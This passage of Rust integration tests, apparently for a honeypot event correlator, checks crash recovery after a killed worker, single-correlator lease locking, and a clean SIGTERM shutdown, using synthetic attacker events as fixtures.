                .map_or(0, |c| c.position);
            if pos > 0 {
                break;
            }
            assert!(
                Instant::now() < deadline,
                "{cursor} never committed a batch"
            );
            if let Some(st) = child.try_wait().unwrap() {
                panic!("{cursor} exited before it could be killed: {st}");
            }
            tokio::time::sleep(Duration::from_millis(2)).await;
        }
        child.kill().expect("SIGKILL");
        child.wait().unwrap();
        if cursor == "correlator" {
            let pos = repo
                .cursor(cursor, &host, name)
                .await
                .unwrap()
                .unwrap()
                .position;
            assert!(pos < total_events, "killed after the end: not mid-way");
        }
        // The dead process's lease blocks a restart until it expires: take it over as a
        // successor would after 15 s, by expiring it.
        sqlx::query("UPDATE worker_leases SET heartbeat_at = '1970-01-01T00:00:00.000000000Z'")
            .execute(&mut sqlx_conn(&killed).await)
            .await
            .unwrap();
        let rerun: Vec<&str> = args
            .iter()
            .copied()
            .filter(|a| *a != "20" && *a != "3" && *a != "--batch")
            .collect();
        run_ok(&rerun, &killed);
    }
    let a = Repository::connect(&clean).await.unwrap();
    let want = snapshot(&a).await;
    assert!(
        want.matches("brute_force").count() >= 40,
        "every copy profiled"
    );
    assert_eq!(snapshot(&repo).await, want);
    a.close().await;
    repo.close().await;
}

async fn sqlx_conn(url: &str) -> sqlx::SqliteConnection {
    use sqlx::Connection as _;
    sqlx::SqliteConnection::connect(url).await.expect("sqlite")
}

/// A second correlator is refused while one runs (the message names the holder); SIGTERM stops
/// the daemon cleanly with its summary.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn one_correlator_per_host_and_clean_sigterm() {
    let dir = TempDir::new("lease");
    let url = dir.url("decnet.db");
    let (lines, flows) = scenarios();
    seeded(&url, &lines, &flows).await;
    let ready = dir.0.join("ready");
    let summary = dir.0.join("summary.json");
    let mut daemon = worker(
        &[
            "correlate",
            "--daemon",
            "--interval",
            "0.2",
            "--flow-settle",
            "0",
        ],
        &url,
    )
    .arg("--ready-file")
    .arg(&ready)
    .arg("--summary-json")
    .arg(&summary)
    .spawn()
    .expect("spawn");
    let deadline = Instant::now() + Duration::from_secs(60);
    while !ready.exists() {
        assert!(Instant::now() < deadline, "no ready file");
        assert!(daemon.try_wait().unwrap().is_none(), "daemon died");
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
    let second = worker(&["correlate"], &url).output().unwrap();
    assert!(!second.status.success());
    let err = String::from_utf8_lossy(&second.stderr);
    assert!(
        err.contains("another correlator is already running")
            && err.contains(&format!("pid {}", daemon.id())),
        "{err}"
    );
    // The daemon processes what arrives later, too.
    let repo = Repository::connect(&url).await.unwrap();
    let late = line(T0 + 9000 * SEC, attacker(77), WEB, "ssh", "connect", &[]);
    store(&repo, &[late], &[], 10).await;
    let deadline = Instant::now() + Duration::from_secs(30);
    while repo.attacker(attacker(77)).await.unwrap().is_none() {
        assert!(
            Instant::now() < deadline,
            "the daemon did not pick up a new event"
        );
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    // SIGTERM: exit 0, lease released, summary written.
    let pid = i32::try_from(daemon.id()).unwrap();
    assert_eq!(unsafe_kill(pid), 0);
    let st = daemon.wait().unwrap();
    assert!(st.success(), "{st}");
    let sum: serde_json::Value = serde_json::from_slice(&std::fs::read(&summary).unwrap()).unwrap();
    assert_eq!(
        sum["events_read"].as_u64(),
        Some(lines.len() as u64 + 1),
        "{sum}"
    );
    assert!(repo.leases().await.unwrap().is_empty(), "lease released");
    repo.close().await;
}

fn unsafe_kill(pid: i32) -> i32 {
    // SAFETY: kill(2) with a pid we spawned and a standard signal.
    unsafe { libc::kill(pid, libc::SIGTERM) }
}
